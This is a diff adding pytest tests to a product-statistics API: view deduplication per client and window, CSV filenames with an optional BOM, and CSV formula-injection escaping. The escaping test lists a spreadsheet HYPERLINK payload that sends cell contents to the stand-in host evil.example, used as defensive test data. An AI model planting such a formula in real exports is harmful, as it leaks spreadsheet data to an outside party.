@@ -71,6 +71,53 @@ def test_without_redis_each_view_is_written_within_the_read(app, client, make, r
     assert len(rows(ProductView)) == 1  # no worker needed
 
 
+def read_from(client, sku, address, headers=None):
+    response = client.get(
+        f"/api/products/{sku}", headers=headers or {}, environ_base={"REMOTE_ADDR": address}
+    )
+    assert response.status_code == 200
+
+
+def dedup_scenario(app, client, make, reader) -> None:
+    """Reads that a 60 s window counts as 4 views: 10.0.0.1 reads abc 5 times, 10.0.0.2
+    once, the reader 3 times from two addresses, and 10.0.0.1 reads xyz once."""
+    app.config["VIEW_DEDUP_SECONDS"] = 60
+    make.product("abc")
+    make.product("xyz")
+    for _ in range(5):
+        read_from(client, "abc", "10.0.0.1")
+    read_from(client, "abc", "10.0.0.2")
+    for address in ("10.0.0.1", "10.0.0.3", "10.0.0.3"):
+        read_from(client, "abc", address, reader["headers"])
+    read_from(client, "xyz", "10.0.0.1")
+    flush(app)
+
+
+@pytest.mark.parametrize("store", ["process", "redis"])
+def test_view_dedup_counts_a_client_once_per_product_and_window(
+    app, client, make, reader, admin, rows, request, store
+):
+    if store == "redis":
+        conn = request.getfixturevalue("streamed")
+    dedup_scenario(app, client, make, reader)
+
+    stats = client.get("/api/products/abc/stats", headers=admin["headers"]).json
+    assert (stats["anonymous_views"], stats["registered_views"]) == (2, 1)
+    assert len(views_of(rows, app, "xyz")) == 1
+    if store == "redis":
+        keys = conn.keys(f"{streams.VIEWED_PREFIX}*")
+        assert len(keys) == 4
+        assert all(0 < conn.ttl(key) <= 60 for key in keys)
+
+
+def test_view_dedup_is_off_by_default(app, client, make, rows):
+    assert app.config["VIEW_DEDUP_SECONDS"] == 0
+    make.product("abc")
+    for _ in range(3):
+        read_from(client, "abc", "10.0.0.1")
+    assert len(views_of(rows, app, "abc")) == 3
+
+
 def test_with_redis_a_read_appends_to_the_stream_and_the_worker_writes_it(
     app, client, make, reader, rows, streamed
 ):
@@ -308,6 +355,45 @@ def test_csv_matches_the_json(app, client, make, admin, viewers):
     )
     assert top_csv == [{k: str(v) for k, v in item.items()} for item in top]
     assert top_csv[0]["name"] == "zapatos, rojos"
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(app, client, make, admin, name):
+    make.product("abc", name=name)
+    seed_views(app, "abc", {date(2026, 7, 1): (1, [])})
+    response = client.get(
+        "/api/stats/products?from=2026-07-01&to=2026-07-01&format=csv", headers=admin["headers"]
+    )
+    [row] = parse_csv(response)
+    assert row["name"] == "'" + name
+    assert row["views"] == "1"  # numbers stay numbers
+
+
+def test_csv_file_names_carry_the_range_and_bom_is_optional(app, client, make, admin):
+    make.product("abc", name="café crème")
+    seed_views(app, "abc", {date(2026, 7, 1): (1, [])})
+    h = admin["headers"]
+    query = "from=2026-07-01&to=2026-07-02&format=csv"
+    top = client.get(f"/api/stats/products?{query}", headers=h)
+    assert top.headers["Content-Disposition"] == (
+        'attachment; filename="top-products-2026-07-01-to-2026-07-02.csv"'
+    )
+    assert top.data.startswith(b"sku,")  # no BOM unless asked
+    one = client.get(f"/api/products/abc/stats?{query}", headers=h)
+    assert one.headers["Content-Disposition"] == (
+        'attachment; filename="abc-views-2026-07-01-to-2026-07-02.csv"'
+    )
+    with_bom = client.get(f"/api/stats/products?{query}&bom=1", headers=h)
+    assert with_bom.data.startswith("\ufeffsku,".encode())
+    assert "café crème" in with_bom.data.decode("utf-8-sig")
 
 
 @pytest.mark.parametrize(
